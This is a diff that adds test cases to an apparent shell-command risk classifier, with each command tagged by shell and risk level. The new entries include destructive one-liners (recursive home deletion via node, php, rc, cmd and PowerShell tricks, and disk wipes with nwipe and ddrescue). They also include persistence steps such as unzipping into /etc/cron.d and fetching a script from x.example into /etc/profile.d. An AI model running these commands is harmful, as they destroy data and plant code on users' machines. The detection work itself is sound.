@@ -218,6 +218,24 @@ CASES: list[tuple[str, str, RiskLevel]] = [
         "powershell",
         B,
     ),
+    # Callbacks that delete, other shells, disk wipers, archive deletes, extraction targets.
+    # (a listing handed to a delete callback deletes every entry, as `ls | xargs rm` does)
+    ("node -e \"require('fs').readdirSync('.').forEach(require('fs').rmSync)\"", "bash", B),
+    ('php -r \'array_map("unlink", glob(getenv("HOME")."/*"));\'', "bash", B),
+    ("rc -c 'rm -rf ~'", "bash", B),
+    ("elvish -c 'echo hi'", "bash", S),
+    ("nwipe --autonuke /dev/sdb", "bash", B),
+    ("ddrescue -f /dev/urandom /dev/sdc", "bash", B),
+    ("ddrescue /dev/sdc rescue.img rescue.map", "bash", M),
+    ("zip -rm archive.zip ~/Documents", "bash", D),
+    ("unzip -o kit.zip -d /etc/cron.d", "bash", C),
+    ("unzip kit.zip -d vendor", "bash", M),
+    ("curl -fsSLo /etc/profile.d/x.sh https://x.example/x.sh", "bash", C),
+    ("ln -s /opt/x/run.desktop ~/.config/autostart/run.desktop", "bash", C),
+    ("git --work-tree=/ clean -fdx", "bash", B),
+    ("git clean -fdx", "bash", D),
+    ('cmd /c "set x=rd /s /q C:\\&&call %x%"', "cmd", B),
+    ("& (Get-Command *ke-Exp*) 'Remove-Item $HOME -Recurse -Force'", "powershell", B),
 ]
 
 
